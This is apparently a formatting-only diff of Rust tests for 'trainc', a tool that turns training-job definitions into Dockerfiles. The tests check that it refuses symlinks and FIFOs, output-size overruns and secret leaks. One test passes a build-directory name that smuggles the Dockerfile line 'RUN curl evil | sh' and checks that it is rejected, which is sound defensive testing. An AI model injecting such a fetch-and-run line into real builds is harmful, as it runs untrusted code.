@@ -71,7 +71,10 @@ fn refused(dir: &Path, o: &Output, wanted: &[&str]) {
     for w in wanted {
         assert!(err.contains(w), "missing {w:?} in:\n{err}");
     }
-    assert!(!err.contains("hunter2"), "a secret reached the output:\n{err}");
+    assert!(
+        !err.contains("hunter2"),
+        "a secret reached the output:\n{err}"
+    );
     assert!(!String::from_utf8_lossy(&o.stdout).contains("hunter2"));
     assert!(!dir.join("deploy").exists(), "something was written");
 }
@@ -83,7 +86,12 @@ fn a_definition_linked_outside_the_root_is_refused_unread() {
     let dir = project();
     let (_s, file) = secret();
     symlink(&file, dir.path().join("jobs/leak.yaml")).expect("symlink");
-    for cmd in [&["validate"][..], &["build"], &["diff"], &["validate", "jobs/leak.yaml"]] {
+    for cmd in [
+        &["validate"][..],
+        &["build"],
+        &["diff"],
+        &["validate", "jobs/leak.yaml"],
+    ] {
         let o = run(dir.path(), cmd);
         refused(
             dir.path(),
@@ -116,7 +124,11 @@ fn a_directory_linked_outside_the_root_is_not_walked() {
     fs::write(outside.path().join("x.yaml"), format!("{SECRET}\n")).expect("write");
     symlink(outside.path(), dir.path().join("jobs/shared")).expect("symlink");
     let o = run(dir.path(), &["build"]);
-    refused(dir.path(), &o, &["jobs/shared resolves to", "outside the project root"]);
+    refused(
+        dir.path(),
+        &o,
+        &["jobs/shared resolves to", "outside the project root"],
+    );
     assert!(!stderr(&o).contains("x.yaml"), "{}", stderr(&o));
 }
 
@@ -125,8 +137,11 @@ fn links_inside_the_root_are_still_followed() {
     let dir = project();
     for (sub, job) in [("shared", "b"), ("more", "c")] {
         fs::create_dir(dir.path().join(sub)).expect("mkdir");
-        fs::write(dir.path().join(format!("{sub}/{job}.yaml")), definition(job, ""))
-            .expect("write");
+        fs::write(
+            dir.path().join(format!("{sub}/{job}.yaml")),
+            definition(job, ""),
+        )
+        .expect("write");
     }
     symlink("../shared/b.yaml", dir.path().join("jobs/b.yaml")).expect("symlink");
     symlink("../more", dir.path().join("jobs/more")).expect("symlink");
@@ -160,7 +175,11 @@ fn a_fifo_among_the_definitions_is_refused_without_blocking() {
     let dir = project();
     mkfifo(&dir.path().join("jobs/pipe.yaml"));
     let limit = Duration::from_secs(30);
-    for cmd in [&["validate"][..], &["build"], &["validate", "jobs/pipe.yaml"]] {
+    for cmd in [
+        &["validate"][..],
+        &["build"],
+        &["validate", "jobs/pipe.yaml"],
+    ] {
         let o = run_within(dir.path(), cmd, limit);
         refused(
             dir.path(),
@@ -205,7 +224,10 @@ fn a_project_file_linked_outside_or_not_a_file_is_refused() {
     refused(
         dir.path(),
         &o,
-        &["error: project file trainc.yaml resolves to", "outside the project root"],
+        &[
+            "error: project file trainc.yaml resolves to",
+            "outside the project root",
+        ],
     );
     fs::remove_file(dir.path().join("trainc.yaml")).expect("rm");
     mkfifo(&dir.path().join("trainc.yaml"));
@@ -243,13 +265,25 @@ fn library_files_linked_outside_or_not_files_are_refused() {
     fs::remove_dir_all(dir.path().join("lib")).expect("rm");
     symlink(file.parent().expect("parent"), dir.path().join("lib")).expect("symlink");
     let o = run(dir.path(), &["validate"]);
-    refused(dir.path(), &o, &["error: library directory lib resolves to"]);
+    refused(
+        dir.path(),
+        &o,
+        &["error: library directory lib resolves to"],
+    );
     fs::remove_file(dir.path().join("lib")).expect("rm");
     fs::create_dir(dir.path().join("lib")).expect("mkdir");
-    symlink(file.parent().expect("parent"), dir.path().join("lib/presets")).expect("symlink");
+    symlink(
+        file.parent().expect("parent"),
+        dir.path().join("lib/presets"),
+    )
+    .expect("symlink");
     fs::write(file.parent().expect("parent").join("x.yaml"), SECRET).expect("write");
     let o = run(dir.path(), &["validate"]);
-    refused(dir.path(), &o, &["error: library file lib/presets/x.yaml resolves to"]);
+    refused(
+        dir.path(),
+        &o,
+        &["error: library file lib/presets/x.yaml resolves to"],
+    );
 }
 
 // Item 10: how much a definition can make trainc do.
@@ -312,7 +346,11 @@ fn tasks_times_settings_are_bounded_before_compiling() {
             "--> jobs/a.yaml:9:24",
         ],
     );
-    assert!(start.elapsed() < Duration::from_secs(20), "{:?}", start.elapsed());
+    assert!(
+        start.elapsed() < Duration::from_secs(20),
+        "{:?}",
+        start.elapsed()
+    );
     // Jobs that fit one by one, but not together.
     let arg = "z".repeat(30_000);
     fs::remove_file(dir.path().join("jobs/a.yaml")).expect("rm");
@@ -325,7 +363,10 @@ fn tasks_times_settings_are_bounded_before_compiling() {
     refused(
         dir.path(),
         &o,
-        &["error: the 5 jobs make at least", "over the 256.0 MiB limit for a build's output"],
+        &[
+            "error: the 5 jobs make at least",
+            "over the 256.0 MiB limit for a build's output",
+        ],
     );
 }
 
@@ -338,11 +379,16 @@ fn rendering_stops_at_the_output_limit() {
     assert!(trainc::pipeline::render_within(&jobs, 10 * 1024 * 1024).is_ok());
     let e = trainc::pipeline::render_within(&jobs, 1024).expect_err("over the limit");
     assert!(
-        e[0].message.starts_with("the build's output would be more than"),
+        e[0].message
+            .starts_with("the build's output would be more than"),
         "{}",
         e[0].message
     );
-    assert!(e[0].message.ends_with("nothing was written"), "{}", e[0].message);
+    assert!(
+        e[0].message.ends_with("nothing was written"),
+        "{}",
+        e[0].message
+    );
 }
 
 #[test]
@@ -350,7 +396,15 @@ fn run_local_applies_the_replicas_limit() {
     let dir = scratch_example("mnist");
     let o = run(
         dir.path(),
-        &["run", "--local", "jobs/mnist.yaml", "--replicas", "worker=40000", "--python", "/bin/false"],
+        &[
+            "run",
+            "--local",
+            "jobs/mnist.yaml",
+            "--replicas",
+            "worker=40000",
+            "--python",
+            "/bin/false",
+        ],
     );
     assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
     assert!(
@@ -405,8 +459,12 @@ fn a_pinned_base_image_is_written_as_given() {
     });
     let o = run(dir.path(), &["build"]);
     assert!(o.status.success(), "{}", stderr(&o));
-    let dockerfile = fs::read_to_string(dir.path().join("build/ml/mnist/Dockerfile")).expect("read");
-    assert!(dockerfile.contains(&format!("\nFROM {pinned}\n")), "{dockerfile}");
+    let dockerfile =
+        fs::read_to_string(dir.path().join("build/ml/mnist/Dockerfile")).expect("read");
+    assert!(
+        dockerfile.contains(&format!("\nFROM {pinned}\n")),
+        "{dockerfile}"
+    );
 }
 
 #[test]
@@ -440,8 +498,11 @@ fn preset_values_written_into_the_dockerfile_are_checked() {
         fs::write(&project, format!("{text}library: lib\n")).expect("write");
         fs::create_dir_all(dir.path().join("lib/presets")).expect("mkdir");
         assert!(preset.contains(from), "{from}");
-        fs::write(dir.path().join("lib/presets/tensorflow.yaml"), preset.replace(from, to))
-            .expect("write");
+        fs::write(
+            dir.path().join("lib/presets/tensorflow.yaml"),
+            preset.replace(from, to),
+        )
+        .expect("write");
         let o = run(dir.path(), &["validate"]);
         refused(dir.path(), &o, &[wanted]);
     }
@@ -452,11 +513,19 @@ fn a_build_directory_with_a_line_break_is_refused() {
     let dir = scratch_example("mnist");
     let o = run(
         dir.path(),
-        &["build", "-o", "out", "--build-output", "b\nRUN curl evil | sh"],
+        &[
+            "build",
+            "-o",
+            "out",
+            "--build-output",
+            "b\nRUN curl evil | sh",
+        ],
     );
     assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
     assert!(
-        stderr(&o).contains("error: the build directory `b\\nRUN curl evil | sh` cannot be named in a Dockerfile"),
+        stderr(&o).contains(
+            "error: the build directory `b\\nRUN curl evil | sh` cannot be named in a Dockerfile"
+        ),
         "{}",
         stderr(&o)
     );
@@ -467,7 +536,10 @@ fn a_build_directory_with_a_line_break_is_refused() {
 
 #[test]
 fn a_directory_of_projects_is_refused_once_per_project_file() {
-    let o = run(&common::root(), &["build", "examples", "-o", "target/never-written"]);
+    let o = run(
+        &common::root(),
+        &["build", "examples", "-o", "target/never-written"],
+    );
     let err = stderr(&o);
     assert_eq!(o.status.code(), Some(2), "{err}");
     for f in [
@@ -479,7 +551,10 @@ fn a_directory_of_projects_is_refused_once_per_project_file() {
             err.contains(&format!("error: {f} is a project file, not a definition")),
             "{err}"
         );
-        assert!(err.contains(&format!("pass `--project {f}` and no paths")), "{err}");
+        assert!(
+            err.contains(&format!("pass `--project {f}` and no paths")),
+            "{err}"
+        );
     }
     assert!(err.contains("aborting due to 3 previous errors"), "{err}");
     assert!(!common::root().join("target/never-written").exists());
@@ -494,7 +569,9 @@ fn files_without_jobs_are_named() {
     refused(
         dir.path(),
         &o,
-        &["error: no training jobs found: the definition files jobs/a.yaml and jobs/b.yaml hold no documents"],
+        &[
+            "error: no training jobs found: the definition files jobs/a.yaml and jobs/b.yaml hold no documents",
+        ],
     );
     for i in 0..6 {
         fs::write(dir.path().join(format!("jobs/c{i}.yaml")), "").expect("write");
@@ -503,6 +580,8 @@ fn files_without_jobs_are_named() {
     refused(
         dir.path(),
         &o,
-        &["error: no training jobs found: the 8 definition files (jobs/a.yaml, jobs/b.yaml, jobs/c0.yaml, and 5 more) hold no documents"],
+        &[
+            "error: no training jobs found: the 8 definition files (jobs/a.yaml, jobs/b.yaml, jobs/c0.yaml, and 5 more) hold no documents",
+        ],
     );
 }
